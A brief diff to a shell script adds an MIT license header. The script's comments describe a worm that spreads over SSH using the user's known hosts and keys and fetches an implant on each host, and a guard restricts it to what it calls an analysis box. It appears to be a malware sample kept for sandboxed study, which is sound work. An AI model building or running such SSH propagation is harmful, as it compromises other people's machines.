@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Spreads over SSH: the user's known hosts and the keys it holds, a
 # command run on each host that fetches and starts the implant.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
